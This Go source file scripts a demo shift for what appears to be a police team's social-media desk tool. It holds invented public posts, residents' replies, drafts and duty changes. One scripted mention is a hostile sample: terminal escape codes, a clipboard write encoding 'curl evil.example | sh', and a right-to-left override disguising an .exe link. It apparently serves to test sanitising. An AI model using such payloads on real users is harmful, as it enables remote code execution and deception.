package demo

import (
	"strconv"
	"strings"
	"time"

	"github.com/dutydesk/dutydesk/feeds"
)

// Step is one scripted moment of the shift.
type Step struct {
	At    time.Duration // offset from the start of the shift at speed 1
	Event *feeds.Event  // an item arrives, is edited or is removed
	Draft *Draft        // someone on the team writes a draft
	Duty  *Duty         // the team goes on or off duty
}

// Draft is text someone on the team writes; the desk decides what happens to it.
type Draft struct {
	Author  string // Person.ID
	Text    string
	ReplyTo string // item ID, "" for a team update
}

// Duty is the whole team going on or off duty.
type Duty struct {
	Actor string // Person.ID
	On    bool
	Until string // "22:00" or ""
}

// sourceName is the Source of every scripted item and the demo Source's Name.
const sourceName = "demo"

// Shift returns the scripted shift of Team 3, Carlisle North: about four
// minutes at speed 1, something every two to six seconds, the first item
// within a couple of seconds. Items' Created = start + At, except that an
// edit keeps the Created of the item it edits. Item IDs are "demo:<n>" and
// stable from call to call, so replaying the shift over a stored desk
// delivers the same items again.
func Shift(start time.Time) []Step {
	s := &script{start: start, items: map[string]feeds.Item{}}

	// The late turn starts; Sgt Morris puts the team on duty.
	s.duty("morris", true, "22:00")

	s.wait(1)
	rtc := s.post("khan", "RTC on the A595 between Bothel and Mealsgate. Two vehicles involved, no serious injuries. "+
		"The road is closed northbound while the vehicles are recovered. Please avoid the area and expect delays. #Allerdale #A595")
	s.wait(2)
	a595 := s.reply("@amy@mastodon.social", "Amy Little", rtc, "@team3 Is the A595 still closed near Bothel? Need to get to Cockermouth for 6")
	s.wait(4)
	surgery := s.mention("@bob@mastodon.social", "Bob Armstrong", "@team3 When is the next PCSO surgery?")
	s.wait(4)
	closure := s.post("robson", "Temporary road closure: Warwick Rd is closed between Botchergate and Greystone Rd while the council "+
		"makes a damaged lamppost safe. Diversion signed via London Rd. Expect 1–2 hours. #Carlisle")
	s.wait(4)
	s.react(rtc, "reblog")
	s.wait(4)
	s.draft("khan", a595, "Hi Amy, it's still closed northbound at Bothel while the recovery truck does its work. "+
		"We hope to have it open within the hour; please follow the signed diversion via Aspatria.")
	s.wait(4)
	s.mention("@rebecca@mastodon.social", "Rebecca, Barrow CDRP",
		"@team3 Great to see a neighbourhood team on here. Even when you can't answer straight away, people feel they'll get "+
			"a quicker response from a real person, and they appreciate the honesty that 'live' networking promotes. "+
			"Would one of you come and talk to our CDRP meeting next month?")
	s.wait(4)
	s.edit(surgery, "@team3 When is the next PCSO surgery in Morton? The parking outside the school at pick-up is getting dangerous.")
	s.wait(4)
	warrant := s.post("patel", "This morning officers executed a drugs warrant at an address in Raffles. One man (34) was arrested "+
		"and suspected cannabis and cash were seized. Thank you to residents for the information — please keep it coming. #Raffles")
	s.wait(4)
	s.reply("@sandra@mastodon.social", "Sandra", warrant, "@team3 About time! That house has been a nightmare for months. Thank you")
	s.wait(4)
	s.reply("@dawn@mastodon.social", "Dawn", warrant, "@team3 Any chance of one in Botcherby? Same problem on our street, cars pulling up at all hours")
	s.wait(4)
	for range 4 {
		// the same long comment, posted four times (the blog's own comments 3, 5, 6 and 7)
		s.mention("@kev@mastodon.social", "Kev", "@team3 "+repeatedComment)
		s.wait(2)
	}
	s.wait(2)
	s.direct("@quietneighbour@mastodon.online", "", "@team3 I didn't want to put this on the public timeline. There's people coming "+
		"and going at a house on our street at all hours, I think it might be drugs. Who do I tell without it getting back to them?")
	s.wait(4)
	removed := s.mention("@gaz@mastodon.social", "Gaz", "@team3 everyone knows it's the lad at number 9 dealing, why haven't you lifted him yet??")
	s.wait(4)
	bikes := s.post("dobson", "Bike marking at the University of Cumbria, Fusehill St campus, until 4pm today. "+
		"Bring your bike and some ID — it takes five minutes and helps us get stolen bikes back to their owners. #Carlisle")
	s.wait(5)
	s.remove(removed) // "This comment has been removed by the author."
	s.wait(4)
	s.reply("@pete@mastodon.social", "Pete", closure, "@team3 Is Warwick Rd open to buses? Stuck at the Crescent")
	s.wait(4)
	s.reply("@ollie@mastodon.social", "Ollie", bikes, "@team3 Is it free? And do I need proof it's my bike?")
	s.wait(4)
	missing := s.post("graham", "MISSING: Have you seen Chloe, 15, from Carlisle? Last seen at 14:30 near Trinity School wearing a "+
		"black puffer jacket, grey joggers and white trainers. She is 5'4\" with long brown hair. Please call 101 quoting log 0456 "+
		"of today. Please share. #Missing #Carlisle")
	s.wait(2)
	s.react(missing, "reblog")
	s.wait(2)
	s.react(missing, "reblog")
	s.wait(2)
	s.reply("@jen@mastodon.social", "Jen", missing, "@team3 Shared. Hope she's home soon x")
	s.wait(4)
	s.mention("@jdoe@mastodon.social", "", "@team3 help there's a man following me down London Rd")
	s.wait(4)
	s.reply("@mike@mastodon.social", "Mike", missing, "@team3 I think I saw a girl like that at the bus station on Lowther St about "+
		"20 mins ago, black puffer coat, she was with two lads")
	s.wait(4)
	astra := s.mention("@dave@mastodon.social", "Dave", "@team3 There's a silver Astra been parked on our street for a week with the "+
		"back window smashed, has anyone reported it?")
	s.wait(4)
	s.draft("dobson", "", "PCSO surgery this Thursday 10:00–12:00 at Morton Community Centre. Come and talk to us about parking, "+
		"anti-social behaviour or anything else on your mind. PCSO Dobson")
	s.wait(4)
	// hostile: clears the screen, retitles the terminal, writes the clipboard,
	// and uses a right-to-left override to disguise an .exe as an .mp4
	s.mention("@cctv_carlisle@mastodon.social", "CCTV Carlisle",
		"\x1b[2J\x1b[H\x1b]0;POLICE SYSTEM COMPROMISED\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"+
			"@team3 here's the footage of the lads who did the shop window: https://files.example/cctv-botchergate\u202e4pm.exe")
	s.wait(4)
	s.draft("armstrong", astra, "Hi Dave, thanks for letting us know. The Astra YX61 KLM outside 23 Petteril Street was reported "+
		"stolen from Harraby on Monday, we'll get it recovered today.")
	s.wait(4)
	s.reply("@chris@mastodon.social", "Chris", warrant, "@team3 Good to see a neighbourhood team on here instead of just a "+
		"corporate feed. You're given powers of investigation and arrest, I think you can be trusted to write on here sensibly!")
	s.wait(4)
	cleared := s.postReply("khan", rtc, "RTC on the A595 now cleared and the road is open both ways. Thanks for your patience, "+
		"and thanks to the recovery crew. #A595")
	s.wait(4)
	s.reply("@amy@mastodon.social", "Amy Little", cleared, "@team3 Thanks, just got through 👍")
	s.wait(4)
	s.draft("dobson", surgery, "Hi Bob, the next surgery is this Thursday 10:00–12:00 at Morton Community Centre. "+
		"Come along and we'll talk about the school run parking.")
	s.wait(4)
	s.mention("@hannah@mastodon.social", "Hannah", "@team3 Are you doing anything about the quad bikes on the cycle path by the "+
		"river at Bitts Park? Every night this week")
	s.wait(4)
	s.post("dobson", "Thanks to everyone who came to bike marking at the uni today: 38 bikes marked and registered. "+
		"Missed it? We'll be at Morton Community Centre on Thursday. #Carlisle")
	s.wait(5)
	found := s.postReply("graham", missing, "UPDATE: Chloe has been found safe and well. Thank you for sharing our appeal, "+
		"it really does make a difference. Please now delete your shares of the original post.")
	s.wait(2)
	s.react(found, "favourite")
	s.wait(2)
	s.react(found, "reblog")
	s.wait(4)
	s.reply("@jen@mastodon.social", "Jen", found, "@team3 Brilliant news ❤️")
	s.wait(4)
	s.mention("@maggie@mastodon.social", "Maggie", "@team3 Why do you never reply to anyone on here? Bit pointless having an "+
		"account if it's just press releases")
	s.wait(4)
	reopened := s.postReply("robson", closure, "Warwick Rd has now reopened. Thanks to the council crew for the quick work "+
		"and to drivers for their patience.")
	s.wait(4)
	s.reply("@pete@mastodon.social", "Pete", reopened, "@team3 Cheers 👍")
	s.wait(4)
	s.mention("@tom@mastodon.social", "Tom", "@team3 How do I get my bike marked if I missed today's event at the uni?")
	s.wait(5)
	s.mention("@sue@mastodon.social", "Sue", "@team3 Great idea having the whole shift on here. Will you say when you're on and off duty?")
	s.wait(5)

	// The late turn ends; questions keep arriving while nobody is on.
	s.duty("morris", false, "")
	s.wait(4)
	linda := s.mention("@linda@mastodon.social", "Linda", "@team3 Someone's been going along Stanwix Bank trying car door handles, "+
		"it's on my doorbell camera. Who do I send the video to?")
	s.wait(5)
	s.mention("@sam@mastodon.social", "Sam", "@team3 Is there anyone on tonight?")
	s.wait(6)
	s.direct("@craig@mastodon.social", "Craig", "@team3 Can I report a crime on here? Someone's taken the catalytic converter "+
		"off my van overnight on Kingstown Rd")
	s.wait(5)

	// The night turn comes on.
	s.duty("ellis", true, "07:00")
	s.wait(4)
	patrols := s.post("nixon", "Officers are on patrol around Stanwix tonight after reports of people trying car door handles. "+
		"Please lock up and keep valuables out of sight. If you see it happening, call 999. #Stanwix")
	s.wait(4)
	s.react(patrols, "favourite")
	s.wait(4)
	s.reply("@linda@mastodon.social", "Linda", patrols, "@team3 Thank you, I've sent the clip in through the 101 online form")
	s.wait(5)
	s.draft("nixon", linda, "Hi Linda, thanks for sending the clip. An officer will look at it tonight and we'll be in touch "+
		"if we need anything more. Please keep your car locked.")
	s.wait(5)
	s.mention("@stacey@mastodon.social", "Stacey", "@team3 Loud music from cars in the Kingstown Rd retail park again, "+
		"every Friday night. Is it worth reporting?")
	s.wait(5)
	s.mention("@ollie@mastodon.social", "Ollie", "@team3 Thanks for marking my bike today, the officer was really helpful")
	return s.steps
}

// repeatedComment is the long comment one person posted four times under the
// 2011 blog post the product grew from.
const repeatedComment = "Sir, as you are well aware one of the services major ambitions is to effectively engage with the community it serves, social media appears to enables us to both develop and inform our communities, in an instinctive way.\n\n" +
	"Rebecca (Barrow CDRP) also makes a very good point when she speaks of the “immediacy” aspect of such types of communication. For instance the service sometimes speaks of its difficulty in reaching so called hard to reach groups; this is where SM really comes into its own, allowing total flexibility as to when and how the contributor responds / accesses such forums .\n\n" +
	"Most people are now accessing social media via smartphones or similar devices, this allows for almost immediate connectivity, something younger generations not only understand but positively demand. Popular analysis seems to support the idea of being forward thinking now, in order to have any chance of capturing/maintaining communication with this group in the future.\n\n" +
	"I think the service sometimes forgets just how interested the wider community is in what we do and how we deliver services, particularly at times of difficulty. There are now increasing numbers of senior officers such as yourself who are playing a major role in expanding this area of public engagement. Personally I think this style is in keeping with today’s demands and personalises our desire to be approachable, accessible and transparent.\n\n" +
	"So what do the police get out of S/M, answer (in my opinion) lots, with the main areas being, fast time connectivity with both its public and staff, the ability to seek feedback with regards to how we deliver services / initiatives, to communicate information relevant to threat/ harm including information requests and finally and importantly inform the wider community of our successes which ultimately supports community reassurance.\n\n" +
	"I accept however, as always there is a flipside to such an open style of communication, which obviously and rightly allows us to be criticised when appropriate. I believe this to be a positive thing as it allows for genuine feedback with regards to the work we do. Personally I am thankful for the Constabulary’s style of leadership which allows staff to feel empowered to make effective use of social media / networking."

// script builds a shift step by step on a running clock.
type script struct {
	start time.Time
	at    time.Duration
	n     int
	steps []Step
	items map[string]feeds.Item
}

func (s *script) wait(seconds int) { s.at += time.Duration(seconds) * time.Second }

func (s *script) add(st Step) {
	st.At = s.at
	s.steps = append(s.steps, st)
}

func (s *script) upsert(it feeds.Item) {
	s.items[it.ID] = it
	s.add(Step{Event: &feeds.Event{Type: feeds.EventUpsert, Item: it}})
}

// item makes a new item by author, answering replyTo if set.
func (s *script) item(kind feeds.Kind, author, name, replyTo, text string, vis feeds.Visibility) string {
	s.n++
	id := "demo:" + strconv.Itoa(s.n)
	remote := strconv.FormatInt(113_204_000_000_000_000+int64(s.n)*4096, 10)
	user, host, _ := strings.Cut(strings.TrimPrefix(author, "@"), "@")
	it := feeds.Item{
		ID:         id,
		Source:     sourceName,
		Kind:       kind,
		Author:     author,
		AuthorName: feeds.SafeText(name),
		Text:       feeds.SafeText(text),
		URL:        "https://" + host + "/@" + user + "/" + remote,
		InReplyTo:  replyTo,
		Thread:     id,
		Visibility: vis,
		Created:    s.start.Add(s.at),
		RemoteID:   remote,
	}
	if parent, ok := s.items[replyTo]; ok {
		it.Thread = parent.Thread
	}
	if vis == feeds.VisibilityDirect {
		it.URL = "" // direct messages have no public page
	}
	s.upsert(it)
	return id
}

// post is a team post written by an officer: it comes from the team account,
// and its AuthorName is the officer's display name.
func (s *script) post(officer, text string) string {
	return s.item(feeds.KindTeamPost, teamAccount, displayName(officer), "", text, feeds.VisibilityPublic)
}

// postReply is a team post that follows up an earlier one in its thread.
func (s *script) postReply(officer, to, text string) string {
	return s.item(feeds.KindTeamPost, teamAccount, displayName(officer), to, text, feeds.VisibilityPublic)
}

func (s *script) mention(author, name, text string) string {
	return s.item(feeds.KindMention, author, name, "", text, feeds.VisibilityPublic)
}

func (s *script) reply(author, name, to, text string) string {
	return s.item(feeds.KindReply, author, name, to, text, feeds.VisibilityPublic)
}

func (s *script) direct(author, name, text string) string {
	return s.item(feeds.KindDirect, author, name, "", text, feeds.VisibilityDirect)
}

// edit replaces an item's text; the item keeps its ID and Created.
func (s *script) edit(id, text string) {
	it := s.items[id]
	it.Text = feeds.SafeText(text)
	s.upsert(it)
}

// remove is the author deleting an item.
func (s *script) remove(id string) {
	s.add(Step{Event: &feeds.Event{Type: feeds.EventDelete, Item: feeds.Item{ID: id}}})
}

func (s *script) react(id, reaction string) {
	s.add(Step{Event: &feeds.Event{Type: feeds.EventReaction, Item: feeds.Item{ID: id}, Reaction: reaction}})
}

func (s *script) draft(author, replyTo, text string) {
	s.add(Step{Draft: &Draft{Author: author, Text: text, ReplyTo: replyTo}})
}

func (s *script) duty(actor string, on bool, until string) {
	s.add(Step{Duty: &Duty{Actor: actor, On: on, Until: until}})
}
